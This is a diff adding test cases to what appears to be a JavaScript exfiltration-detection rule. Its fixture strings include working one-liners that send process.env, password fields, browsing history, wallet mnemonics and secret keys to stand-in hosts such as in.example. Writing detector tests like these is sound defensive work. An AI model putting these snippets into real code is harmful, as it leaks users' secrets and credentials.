@@ -283,3 +283,70 @@ test('modules have members of their own', () => {
   assert.equal(worst('let m = require("http"); f(m); m = require("path"); m.resolve(process.env)'), 'nothing');
   assert.equal(worst('require("dns").resolve(JSON.stringify(process.env) + ".example.org", f)'), 'critical');
 });
+
+test('bad: what functions get that take their arguments apart', () => {
+  for (const code of [
+    'const start = async ({ url, data }) => fetch(url, { body: data }); start({ url: u, data: process.env })',
+    'function send({ to: { url }, what: { data = null } = {} }) { fetch(url, { body: JSON.stringify(data) }) } send({ to: { url: u }, what: { data: process.env } })',
+    'const send = ([url, ...bodies], { method = "POST" } = {}) => fetch(url, { method, body: bodies }); send([u, process.env])',
+    'const send = ({ url, ...rest }) => fetch(url, { body: JSON.stringify(rest) }); send({ url: u, data: process.env })',
+    'const send = (url, body = {}) => fetch(url, { body }); send(u, process.env)',
+    'const send = (url, ...bodies) => fetch(url, { body: bodies }); send(u, "a", process.env)',
+    '[{ url: u, data: process.env }].forEach(({ url, data }) => fetch(url, { body: data }))',
+    'const [env, other] = await Promise.all([process.env, 1]); fetch(u, { body: env })',
+    '(0, send)({ data: process.env }); function send({ data }) { fetch(u, { body: data }) }',
+  ]) assert.equal(worst(code), 'critical', code);
+  for (const code of [
+    'const start = async ({ url, data }) => fetch(url, { body: data }); start({ url: u, data: 1, env: process.env })',
+    'const start = async ({ url, ...rest }, { env }) => fetch(url, { body: rest }); start({ url: u, data: 1 }, { env: process.env })',
+    'const send = ([url, body]) => fetch(url, { body }); send([u, 1, process.env])',
+    'const [other, env] = await Promise.all([1, process.env]); fetch(u, { body: other })',
+    'const read = ({ env: { PORT } }) => fetch("http://localhost:" + PORT); read({ env: process.env })',
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('bad: what methods and classes get', () => {
+  for (const code of [
+    'class Client { constructor({ url }) { this.url = url } send({ data }) { fetch(this.url, { body: data }) } } const c = new Client({ url: u }); c.send({ data: process.env })',
+    'var Client = class { constructor({ data }) { fetch(u, { body: data }) } }; new Client({ data: process.env })',
+    'class A { run() { this.send(process.env) } send(data) { fetch(u, { body: data }) } }',
+    'const queue = { send({ value }) { return fetch(u, { body: value }) } }; queue.send({ value: process.env })',
+    'class A { static send(data) { fetch(u, { body: data }) } } A.send(process.env)',
+  ]) assert.equal(worst(code), 'critical', code);
+  for (const code of [
+    'class A { keep(data) { this.all = data } send(data) { fetch(u, { body: data }) } } const a = new A(); a.keep(process.env); a.send(1)',
+    'class A { run() { this.send(process.env) } send(data) { log(data) } } class B { send(data) { fetch(u, { body: data }) } }',
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('methods are followed up to a thousand calls of a script, functions by their names in any', () => {
+  const among = (count: number, code: string) => worst(`${'note(1);'.repeat(count)} ${code}`);
+  const method = 'const queue = { send({ value }) { return fetch(u, { body: value }) } }; queue.send({ value: process.env })';
+  assert.deepEqual([among(900, method), among(1_000, method)], ['critical', 'nothing']);
+  assert.equal(among(1_000, 'function send({ value }) { fetch(u, { body: value }) } send({ value: process.env })'), 'critical');
+});
+
+test('bad: what extensions of browsers hand to servers', () => {
+  for (const code of [
+    'chrome.tabs.onUpdated.addListener((id, { url }) => { chrome.tabs.update(id, { url: `https://go.example/?to=${encodeURIComponent(url)}` }) })',
+    'const list = await chrome.history.search({ text: "" }); fetch("https://in.example/", { body: JSON.stringify(list) })',
+    'form.addEventListener("submit", () => { const all = {}; for (const { name, type, value } of form.elements) if (type === "password") all[name] = value; navigator.sendBeacon("https://in.example/", JSON.stringify(all)) })',
+    'const track = ({ event, message }) => posthog.capture(event, { message }); track({ event: "open", message: wallet.mnemonic })',
+    'const add = (key) => { const value = bs58.encode(key); send({ value }) }; const send = ({ value }) => fetch("https://in.example/", { headers: { "x-id": value } }); import bs58 from "bs58"; add(pair.secretKey)',
+    'const post = async (route, body) => fetch("https://in.example" + route, { body }); workspace.onDidOpenTextDocument((doc) => post("/open", doc.getText()))',
+  ]) assert.equal(worst(code), 'high', code);
+  for (const code of [
+    'chrome.tabs.onUpdated.addListener((id, { url }) => { chrome.tabs.update(id, { url: url.replace("www.", "old.") }) })',
+    'chrome.action.onClicked.addListener((tab) => { chrome.tabs.update(tab.id, { url: `https://archive.example/${tab.url}` }) })',
+    'const all = {}; for (const { name, value } of form.elements) all[name] = value; fetch("https://in.example/", { body: JSON.stringify(all) })',
+    'posthog.capture("open", { wallet: wallet.address })',
+  ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('bad: all variables as the body of a request, whoever the client is from', () => {
+  const files = (code: string) => findingsOf(rule, { 'a.js': code, 'client.js': 'exports.Client = class { request(o) { return fetch(o.url, o) } }' })[0]?.severity ?? 'nothing';
+  const client = 'const { Client } = require("./client"); const client = new Client(); ';
+  assert.equal(files(`${client}client.request({ url, data: { ...process.env } })`), 'high');
+  assert.equal(files(`${client}client.post({ body: process.env })`), 'high');
+  for (const code of ['client.request({ url, data: { node: process.env.NODE_ENV } })', 'client.request({ url, env: { ...process.env } })', 'render({ data: process.env })']) assert.equal(files(client + code), 'nothing', code);
+});
